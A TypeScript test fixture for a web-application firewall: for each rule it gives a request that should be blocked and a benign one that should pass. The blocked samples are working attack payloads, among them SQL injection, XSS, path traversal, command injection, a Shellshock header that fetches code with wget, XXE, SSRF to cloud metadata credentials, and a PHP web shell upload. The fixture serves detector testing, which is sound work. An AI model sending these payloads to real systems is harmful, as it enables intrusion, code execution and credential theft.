// For each rule of specials.ts by its id: a request that it matches, and one that it passes.
import type { RuleSamples } from '../request-sample.cases.ts'
import { form, get, json, upload, xml } from './sample-requests.cases.ts'

export const SPECIALS_SAMPLES: RuleSamples = {
  b84dc2a55797ae869b3287cb21fea451: {
    matching: get('/item?id=-1%27%20UNION%20ALL%20SELECT%20NULL,NULL--%20-'),
    passing: json(
      '/posts',
      '{"text":"Use UNION SELECT to put two lists together: SELECT a FROM x UNION SELECT a FROM y"}',
    ),
  },
  b3b48a719abfd641171d806d467c0667: {
    matching: form('/login', "user=admin' or '1'='1&password=x"),
    passing: json('/posts', `{"text":"The 'or' and the 'and' of it: x = 'a' or y"}`),
  },
  '045276c63889178f5a7529a16a2cf237': {
    matching: get('/item?id=7%20AND%203*2=6%20AND%20700=700&x=1%20and%201=1'),
    passing: get('/item?id=7&q=1+and+a+half'),
  },
  fc2daa115ed8f9a54fa5f1c6194ac645: {
    matching: get("/item?id=1'%20AND%20SLEEP(5)%20AND%20'a'='a"),
    passing: json('/posts', '{"code":"time.sleep(5)\\nawait sleep(10);"}'),
  },
  '8a6249b4a042d3149a0bac83c97b27c9': {
    matching: get("/item?id=1';%20DROP%20TABLE%20users;--"),
    passing: json('/posts', '{"code":"DROP TABLE users; CREATE TABLE users (id int);"}'),
  },
  '1b49953022751d3e2d96940aa9245ac5': {
    matching: get("/item?id=1'+and+extractvalue(1,concat(0x7e,version()))--+"),
    passing: json(
      '/posts',
      '{"text":"information_schema lists tables. SELECT name FROM information_schema.tables"}',
    ),
  },
  '0dd4fb831872b25a1d895c904ec7cd2b': {
    matching: get('/item?id=1/**/UNION/**/SELECT/**/1'),
    passing: get('/docs/union-of-select-committees?page=2'),
  },
  '24318e5ed64421417164e073cfd0fac1': {
    matching: get('/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E'),
    passing: json('/posts', '{"html":"<p class=\\"lead\\">Turn on = off</p>"}'),
  },
  f653ff5342f474d44369f1891d870399: {
    matching: form('/posts', 'text=%26%23x3c%3Bscript%26%23x3e%3Balert(1)'),
    passing: json('/posts', '{"html":"Caf&#233; &amp; bar, &lt;b&gt; is bold, java &#38; more"}'),
  },
  aaad20408c7298b2add19d0a619521e9: {
    matching: get('/search?q=%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
    passing: json('/posts', '{"text":"Put it into a <script> element of your page."}'),
  },
  '14572fa43fdf93fb4de3e92b343a1e9a': {
    matching: get('/go?url=javascript:alert(1)'),
    passing: json('/posts', '{"text":"Learn JavaScript: an introduction (free)"}'),
  },
  '55a043a2944d3c35d2052cb4bf6610a3': {
    matching: get("/search?q='-alert(1)-'"),
    passing: json('/posts', '{"code":"window.alert(message); eval(expr)"}'),
  },
  '4c8efd54bb1d89be4706bacf0e5f2073': {
    matching: get('/search?q=%3Csvg%3E%3Canimate%20onbegin%3Dalert(1)%20attributeName%3Dx%3E'),
    passing: json(
      '/posts',
      '{"html":"<svg width=\\"16\\"><path d=\\"M0 0\\"/></svg><iframe src=\\"https://video.example.com/embed/1\\"></iframe>"}',
    ),
  },
  ef79f089c0ee40d6fdbc93763bdc4ddc: {
    matching: get('/view?page=....//....//....//etc/passwd'),
    passing: get('/view?page=../../images/logo.png'),
  },
  '65cac47ac8c3454fb6ff9f1f7a4d46cd': {
    matching: get('/view?page=/etc/passwd%00'),
    passing: json('/posts', '{"text":"Users are listed in /etc/passwd on Linux."}'),
  },
  '021e756f5af2e82e8bf06397d04ff424': {
    matching: get('/index.php?page=php://input'),
    passing: get('/index.php?page=https://www.example.com/photo.jpg'),
  },
  a605fc31640583d362f72981851d2f71: {
    matching: get('/ping?host=192.0.2.1%3B%20cat%20/etc/passwd'),
    passing: json('/posts', '{"text":"Salt & pepper; id cards | hostname labels"}'),
  },
  f432882d01ce5a13ea06b333b090ba9a: {
    matching: get('/ping?host=%7Cnslookup%20-q=cname%20x.example.com'),
    passing: get('/docs?q=how+nslookup+works'),
  },
  '64473811474232918bee1fe83032564b': {
    matching: get('/ping?host=x$(sleep%205)'),
    passing: json('/posts', '{"text":"Run `ls` and then $(document).ready(f)"}'),
  },
  e8f1308b5466593f8c736490578bb915: {
    matching: get('/ping?host=192.0.2.1%26powershell%20-enc%20aQBkAA=='),
    passing: get('/search?q=powershell+course+%26+exam'),
  },
  '77c134eaeb23e2a1b8e9220bf21045cd': {
    matching: get('/cgi-bin/status', { 'user-agent': '() { :;}; /usr/bin/wget http://192.0.2.66/x' }),
    passing: json('/posts', '{"code":"const f = () => { return 1 }"}'),
  },
  '860d7a62eb94508ef691b0642753531e': {
    matching: form('/login', 'username[$ne]=x&password[$regex]=.*'),
    passing: json('/query', '{"filter":{"price":{"$gt":10}}}'),
  },
  '32fc4f873f45ebd3fdff5e16f1056eb8': {
    matching: get("/login?user=admin'%20||%20this.password.match(/^a/)//"),
    passing: json('/posts', '{"code":"const a = this.name || other"}'),
  },
  c10d44bcc9e4af2a4008f7651651d0c8: {
    matching: json(
      '/graphql',
      '{"query":"query IntrospectionQuery{__schema{queryType{name}types{name fields{name}}}}"}',
    ),
    passing: json(
      '/graphql',
      '{"query":"query($id: ID!) { item(id: $id) { name price __typename } }","variables":{"id":"4"}}',
    ),
  },
  '73726e3ce7974d233dab3328dbf12472': {
    matching: get('/hello?name={{config.items()}}'),
    passing: json('/templates', '{"body":"Hello {{ user.name }}, total {{ price * count }}"}'),
  },
  '20f980e88e71cc7cd974bfd43004bfcd': {
    matching: get('/page/%25%7B(%23cmd=%27id%27)%7D.action'),
    passing: json('/posts', '{"text":"java.lang.Runtime is a class of the JDK"}'),
  },
  '202472bed7ce8bb3c6437b3aeae63d12': {
    matching: json('/api', '{"a":{"x":1},"b":"!!python/object/apply:os.system"}'),
    passing: { headers: { cookie: 'prefs=a%3A1%3A%7Bs%3A4%3A%22lang%22%3Bs%3A2%3A%22en%22%3B%7D' } },
  },
  f6043fc3e15ba1be65e1b15262da973b: {
    matching: get('/api?__proto__[isAdmin]=true'),
    passing: json('/api', '{"constructor":"Smith","prototype":4}'),
  },
  '9ac41e6f0cac1d5c08687acc687db2b5': {
    matching: xml(
      '/api',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    ),
    passing: xml(
      '/api',
      '<?xml version="1.0"?><!DOCTYPE note PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1.dtd"><note/>',
    ),
  },
  f832d7fec6d42cba6d79683fffdb73a7: {
    matching: get('/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
    passing: get('/fetch?url=https://169.example.com/latest'),
  },
  '1a7693c09b32b08d263a2251b6004066': {
    matching: get('/fetch?url=http://127.0.0.1:6379/'),
    passing: get('/fetch?url=https://www.example.com/127.0.0.1'),
  },
  '85931fb97a9740ca56fc2a5891b4a7db': {
    matching: get('/people?name=*)(uid=*))(|(uid=*'),
    passing: get('/people?name=Ada+(Lovelace)+(mail=yes)'),
  },
  '7844a8c5ecafe6dd7d73a4dc4cd5a82b': {
    matching: form('/guest', 'text=%3C!--%23exec+cmd%3D%22id%22--%3E'),
    passing: form('/guest', 'text=%3C!--+an+include+--%3E'),
  },
  f2515eb6025de5d1ee497bf6adb01316: {
    matching: get('/go?to=%0d%0aSet-Cookie:%20admin=1'),
    passing: get('/go?to=/set-cookie:1'),
  },
  '16655f77f0483ad7c5a05cf4f4b0220e': {
    matching: get('/', { 'accept-language': "en' or sleep(5)#" }),
    passing: get('/', { 'accept-language': 'en-GB,en;q=0.9,de;q=0.8' }),
  },
  '2aeb35f39a8523146c59f663b4f9ce22': {
    matching: { method: 'POST', target: '/', headers: { 'transfer-encoding': '\u000bchunked' } },
    passing: { method: 'POST', target: '/', headers: { 'transfer-encoding': 'gzip, chunked' } },
  },
  '59aa1b2ddd206cbea348b455e06f1a19': {
    matching: upload('/upload', 'avatar.gif', "GIF89a<?php system($_GET['c']); ?>"),
    passing: upload('/upload', 'example.txt', 'PHP has <?php tags; functions such as strlen.'),
  },
  '8eedf641c99b4d953d9b3a0700202c23': {
    matching: upload('/upload', 'report.phtml', 'x'),
    passing: upload('/upload', 'php-course.pdf', '%PDF-1.7'),
  },
  '078f17750c8c672c108ada20786171c7': {
    matching: get('/.env.production'),
    passing: get('/environment/config.html'),
  },
  '5a1516010696d10d8f0f89c9abf888a4': {
    matching: get('/', { 'user-agent': 'sqlmap/1.7.11#stable (https://sqlmap.org)' }),
    passing: get('/', {
      'user-agent': 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    }),
  },
  '4705d2bed90604adbde5fd489c096cfb': {
    matching: form('/contact', 'email=a@example.com%0ABcc:victim@example.com'),
    passing: form('/contact', 'text=Hello%0AI+wrote+to:+my+friend'),
  },
  '0311bc38f59aeec1211015bc7f6f1b68': {
    matching: get('/login?next=%2f%5cexample.net'),
    passing: get('/login?next=/account/orders'),
  },
  a805ad95fe40bc3ec830e727b102a533: {
    matching: get('/.well-known/acme-challenge/LoqXcYV8q5ONbJQxbmR7SCTNo3tiAXDfowyjxAjEuX0'),
    passing: get('/.well-known/acme-challenge/../../etc/passwd'),
  },
  '95f4c0384981027a6f7de271b79f6c51': {
    matching: get('/.well-known/security.txt'),
    passing: get('/.well-known/security.txt?x=1'),
  },
}
